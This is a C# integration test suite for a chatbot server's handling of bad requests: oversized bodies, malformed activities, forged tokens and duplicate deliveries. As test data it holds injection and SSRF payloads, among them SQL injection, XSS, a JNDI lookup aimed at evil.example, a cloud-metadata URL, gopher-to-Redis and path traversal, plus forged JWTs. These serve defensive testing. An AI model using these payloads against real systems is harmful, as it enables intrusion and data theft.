using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using AttBot.IntegrationTests.Channels;
using Microsoft.Data.Sqlite;

namespace AttBot.IntegrationTests.Host;

/// <summary>One server process for everything that must not shake it.</summary>
public sealed class ShakenServer : InFolder, IAsyncLifetime
{
    public AttBotProcess Server { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        Server = await AttBotProcess.ServeAsync(Folder, ("AttBot__Channels__DirectLine__ConversationsPerMinute", "1000"), ("AttBot__Channels__DirectLine__MessageBurst", "1000"));
        var user = await WebUser.BeginAsync(Server);
        await user.SaysAsync("What does the programme of work say about hippopotamuses?");
        await user.AnsweredAsync(); // from now on nothing is made ready any more that an answer would wait for
    }

    public async Task DisposeAsync() => await Server.DisposeAsync();

    /// <summary>How many rows a table has.</summary>
    public async Task<long> CountAsync(string table)
    {
        await using var connection = new SqliteConnection($"Data Source={Database};Mode=ReadOnly");
        await connection.OpenAsync();
        await using var command = connection.CreateCommand();
#pragma warning disable CA2100 // written in this test
        command.CommandText = $"SELECT COUNT(*) FROM \"{table}\"";
#pragma warning restore CA2100
        return (long)(await command.ExecuteScalarAsync())!;
    }
}

/// <summary>Whatever is sent, the answer is a clear refusal or a plain sentence, and nothing is stored half.</summary>
public sealed class BadRequestTests(ShakenServer shaken) : IClassFixture<ShakenServer>, IAsyncLifetime
{
    private const string Message = """{"type":"message","id":"ID","channelId":"msteams","serviceUrl":"http://127.0.0.1:9","deliveryMode":"expectReplies","conversation":{"id":"bad"},"from":{"id":"u"},"recipient":{"id":"b"},"text":"x"}""";

    private int _logged;

    private AttBotProcess Server => shaken.Server;

    public Task InitializeAsync()
    {
        _logged = Server.Output.Length;
        return Task.CompletedTask;
    }

    /// <summary>After each test the server is as well as before.</summary>
    public async Task DisposeAsync()
    {
        Assert.Equal(HttpStatusCode.OK, (await Server.Http.GetAsync("/health/ready")).StatusCode);
        var logged = Server.Output[_logged..];
        Assert.True(!logged.Contains("fail: AttBot", StringComparison.Ordinal) && !logged.Contains("crit:", StringComparison.Ordinal), logged);
    }

    [Fact]
    public async Task Bodies_that_are_no_activity_are_refused_by_both_channels_and_leave_nothing()
    {
        var user = await WebUser.BeginAsync(Server);
        foreach (var (body, expected) in BadBodies.All)
        {
            IsProblem((int)expected, await Server.PostAsync(body), body);
            var (status, problem) = await user.PostAsync(body);
            IsProblem((int)expected, (status, problem!.ToJsonString()), body);
        }

        IsProblem(415, await Server.PostAsync("text"u8.ToArray(), "text/plain"));
        IsProblem(415, await Server.PostAsync(Encoding.Unicode.GetBytes(Message), "application/json; charset=utf-16"));
        Assert.Empty(await user.HistoryAsync());
        Assert.Equal(0, await shaken.CountAsync("Unanswered"));
    }

    [Theory]
    [InlineData("/v3/directline/tokens/generate")]
    [InlineData("/act/abc")]
    [InlineData("/nothing")]
    public async Task What_is_larger_than_anything_taken_here_is_refused_wherever_it_is_sent(string path)
    {
        using var content = new ByteArrayContent(new byte[1_100_000]);
        using var response = await Server.Http.PostAsync(path, content);

        IsProblem(413, ((int)response.StatusCode, await response.Content.ReadAsStringAsync()));
    }

    [Fact]
    public async Task A_body_that_does_not_say_how_long_it_is_is_refused_where_it_grows_too_large()
    {
        using var generated = await Server.Http.PostAsync("/v3/directline/tokens/generate", null);
        var token = JsonNode.Parse(await generated.Content.ReadAsStringAsync())!;
        var body = Message.Replace("\"text\":\"x\"", $"\"text\":\"{new string('x', 300_000)}\"", StringComparison.Ordinal);
        foreach (var path in (string[])["/api/messages", $"/v3/directline/conversations/{token["conversationId"]}/activities"])
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, path) { Content = new StringContent(body, Encoding.UTF8, "application/json") };
            request.Headers.TransferEncodingChunked = true;
            request.Headers.Authorization = path.StartsWith("/v3", StringComparison.Ordinal) ? new("Bearer", (string?)token["token"]) : null;
            using var response = await Server.Http.SendAsync(request);
            IsProblem(413, ((int)response.StatusCode, await response.Content.ReadAsStringAsync()), []);
        }
    }

    [Theory]
    [InlineData("type")]
    [InlineData("serviceUrl")]
    [InlineData("channelId")]
    [InlineData("conversation")]
    public async Task A_message_that_lacks_what_a_message_has_is_refused_by_name(string member)
    {
        var activity = JsonNode.Parse(Message)!.AsObject();
        activity.Remove(member);

        var answer = await Server.PostAsync(Encoding.UTF8.GetBytes(activity.ToJsonString()));

        IsProblem(400, answer);
        Assert.Contains(member, answer.Body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("http://169.254.169.254/latest/meta-data/")]
    [InlineData("https://10.0.0.1/")]
    [InlineData("https://smba.trafficmanager.net.evil.example/")]
    [InlineData("https://user:password@smba.trafficmanager.net/")]
    [InlineData("https://trafficmanager.net/")]
    [InlineData("http://smba.trafficmanager.net/")]
    [InlineData("file:///etc/passwd")]
    [InlineData("javascript:alert(1)")]
    [InlineData("gopher://127.0.0.1:6379/_FLUSHALL")]
    [InlineData("//evil.example")]
    [InlineData("")]
    [InlineData("SELF")]
    public async Task Replies_go_to_no_hostile_address(string serviceUrl)
    {
        var url = serviceUrl == "SELF" ? Server.Http.BaseAddress!.ToString() : serviceUrl;

        IsProblem(400, await Server.PostAsync(Encoding.UTF8.GetBytes(Message.Replace("http://127.0.0.1:9", url, StringComparison.Ordinal))));
    }

    [Theory]
    [InlineData("")]
    [InlineData(" \t\n ")]
    [InlineData("\u200b\u200e\u202e")]
    [InlineData("🙂🙂🏳️‍🌈")]
    [InlineData("'; DROP TABLE \"Conversations\"; --")]
    [InlineData("<img src=x onerror=alert(1)><script>alert(1)</script>")]
    [InlineData("[click](javascript:alert(1)) ![x](http://evil.example/x.png)")]
    [InlineData("{{7*7}} ${jndi:ldap://evil.example/a} %00 \u0000 ../../etc/passwd")]
    public async Task Any_text_gets_a_plain_sentence_and_what_it_smuggles_does_not_come_back(string text)
    {
        var user = await WebUser.BeginAsync(Server);
        Assert.Equal(200, (await user.SaysAsync(text)).Status);
        var history = await user.AnsweredAsync();

        Assert.Equal(2, history.Count);
        Assert.Equal(text, (string)history[0]["text"]!); // as it was said: the page shows it as text
        foreach (var reply in (string[])[history[1].ToJsonString(), await Server.AskAsync("any" + text.GetHashCode(StringComparison.Ordinal).ToString(CultureInfo.InvariantCulture), text)])
        {
            Assert.Contains("\"type\":\"message\"", reply, StringComparison.Ordinal);
            Assert.All((string[])["onerror", "javascript", "evil.example", "DROP", "passwd"], smuggled => Assert.DoesNotContain(smuggled, reply, StringComparison.Ordinal));
            Assert.DoesNotContain("Exception", reply, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task The_longest_text_that_is_taken_is_answered()
    {
        var user = await WebUser.BeginAsync(Server);
        var text = string.Concat(Enumerable.Repeat("Is Japan a State Party? ", 250_000 / 24));

        Assert.Equal(200, (await user.SaysAsync(text)).Status);

        Assert.Equal(2, (await user.AnsweredAsync()).Count);
    }

    [Fact]
    public async Task A_message_delivered_again_is_not_answered_again()
    {
        var message = Encoding.UTF8.GetBytes(Message.Replace("ID", "twice", StringComparison.Ordinal));
        var (first, second) = (await Server.PostAsync(message), await Server.PostAsync(message));

        Assert.Equal((200, 200), (first.Status, second.Status));
        Assert.Contains("\"activities\"", first.Body, StringComparison.Ordinal);
        Assert.Empty(second.Body);
        var user = await WebUser.BeginAsync(Server);
        Assert.Equal((string)(await user.SaysAsync("hello", "same")).Body!["id"]!, (string)(await user.SaysAsync("other", "same")).Body!["id"]!);
        Assert.Equal(2, (await user.AnsweredAsync()).Count);
    }

    [Fact]
    public async Task Forged_tokens_open_nothing()
    {
        var (mine, theirs) = (await WebUser.BeginAsync(Server), await WebUser.BeginAsync(Server));
        var path = $"/v3/directline/conversations/{theirs.Conversation}/activities";
        var parts = theirs.Token.Split('.');
        var claims = Encoding.UTF8.GetString(Base64Url(parts[1]));
        var other = Convert.ToBase64String(Encoding.UTF8.GetBytes(claims.Replace(theirs.Conversation, mine.Conversation, StringComparison.Ordinal))).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        foreach (var token in (string[])[mine.Token, "x", "..", "v1.e30.AA", theirs.Token + "A", theirs.Token[..^1], $"{parts[0]}.{other}.{parts[2]}", $"{parts[0]}.{parts[1]}.", new string('A', 10_000), "eyJhbGciOiJub25lIn0.e30."])
        {
            var (status, problem) = await mine.SendAsync(HttpMethod.Get, path, token: token);
            IsProblem(403, (status, problem!.ToJsonString()));
            (status, problem) = await mine.SendAsync(HttpMethod.Post, path, """{"type":"message","text":"forged"}"""u8.ToArray(), token);
            IsProblem(403, (status, problem!.ToJsonString()));
        }

        Assert.Equal(401, (int)(await Server.Http.GetAsync(path)).StatusCode);
        Assert.Empty(await theirs.HistoryAsync());
    }

    [Theory]
    [InlineData("-1")]
    [InlineData("abc")]
    [InlineData("1;DROP TABLE Activities")]
    [InlineData("99999999999999999999")]
    [InlineData("%00")]
    [InlineData("1&watermark=2")]
    public async Task A_forged_watermark_is_refused(string watermark)
    {
        var user = await WebUser.BeginAsync(Server);
        foreach (var path in (string[])[$"/v3/directline/conversations/{user.Conversation}", $"/v3/directline/conversations/{user.Conversation}/activities"])
        {
            var (status, problem) = await user.SendAsync(HttpMethod.Get, $"{path}?watermark={watermark}");
            IsProblem(400, (status, problem!.ToJsonString()));
        }
    }

    [Theory]
    [InlineData("GET", "/api/messages", 405)]
    [InlineData("DELETE", "/api/messages", 405)]
    [InlineData("PUT", "/api/messages", 405)]
    [InlineData("GET", "/slack/events", 405)]
    [InlineData("PUT", "/slack/interactivity", 405)]
    [InlineData("GET", "/v3/directline/tokens/generate", 405)]
    [InlineData("DELETE", "/v3/directline/conversations", 405)]
    [InlineData("POST", "/", 405)]
    [InlineData("DELETE", "/process", 405)]
    [InlineData("POST", "/privacy", 405)]
    [InlineData("PUT", "/files/strategy-1/version-1.md", 405)]
    [InlineData("POST", "/calendar/public.ics", 405)]
    [InlineData("DELETE", "/health/ready", 405)]
    [InlineData("POST", "/api/messages/", 415)]
    [InlineData("POST", "/api/messages/more", 404)]
    [InlineData("GET", "/nothing", 404)]
    [InlineData("GET", "/../../etc/passwd", 404)]
    [InlineData("GET", "/v3/directline/conversations/%2e%2e/activities", 404)]
    public async Task Other_addresses_and_methods_are_refused_in_a_sentence(string method, string path, int expected)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        using var response = await Server.Http.SendAsync(request);

        Assert.Equal(expected, (int)response.StatusCode);
        IsProblem((int)response.StatusCode, ((int)response.StatusCode, await response.Content.ReadAsStringAsync()));
    }

    [Fact]
    public async Task A_body_that_does_not_come_is_not_waited_for()
    {
        foreach (var (path, token) in ((string, string)[])[("/api/messages", ""), ($"/v3/directline/conversations/C/activities", "T")])
        {
            var user = await WebUser.BeginAsync(Server);
            using var client = new TcpClient();
            await client.ConnectAsync(IPAddress.Loopback, Server.Http.BaseAddress!.Port);
            await using var stream = client.GetStream();
            var authorization = token.Length == 0 ? "" : $"Authorization: Bearer {user.Token}\r\n";
            await stream.WriteAsync(Encoding.ASCII.GetBytes(
                $"POST {path.Replace("/C/", $"/{user.Conversation}/", StringComparison.Ordinal)} HTTP/1.1\r\nHost: 127.0.0.1:{Server.Http.BaseAddress!.Port}\r\n{authorization}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{"));

            var answer = await ReadUntilCutAsync(stream); // until the server has enough

            Assert.StartsWith("HTTP/1.1 408 ", answer, StringComparison.Ordinal);
            Assert.Contains("took too long", answer, StringComparison.Ordinal);
        }
    }

    private static async Task<string> ReadUntilCutAsync(NetworkStream stream)
    {
        using var limit = new CancellationTokenSource(AttBotProcess.Patience);
        using var answer = new MemoryStream();
        var buffer = new byte[4096];
        try
        {
            while (await stream.ReadAsync(buffer, limit.Token) is > 0 and var length)
            {
                answer.Write(buffer, 0, length);
            }
        }
        catch (IOException)
        {
            // a server that throws away what still comes may reset the connection after its answer
        }

        return Encoding.UTF8.GetString(answer.ToArray());
    }

    private static byte[] Base64Url(string text) =>
        Convert.FromBase64String(text.Replace('-', '+').Replace('_', '/') + new string('=', (4 - (text.Length % 4)) % 4));

    private static void IsProblem(int expected, (int Status, string Body) answer, byte[]? sent = null)
    {
        var about = sent is null ? "" : Encoding.UTF8.GetString(sent, 0, Math.Min(sent.Length, 80));
        Assert.Equal((expected, about), (answer.Status, about));
        var problem = JsonDocument.Parse(answer.Body).RootElement;
        Assert.Equal(expected, problem.GetProperty("status").GetInt32());
        Assert.NotEmpty(problem.GetProperty("title").GetString()!);
        Assert.NotEmpty(problem.GetProperty("detail").GetString()!);
        Assert.NotEmpty(problem.GetProperty("reference").GetString()!);
        Assert.DoesNotContain("   at ", answer.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("Exception", answer.Body, StringComparison.Ordinal);
    }
}
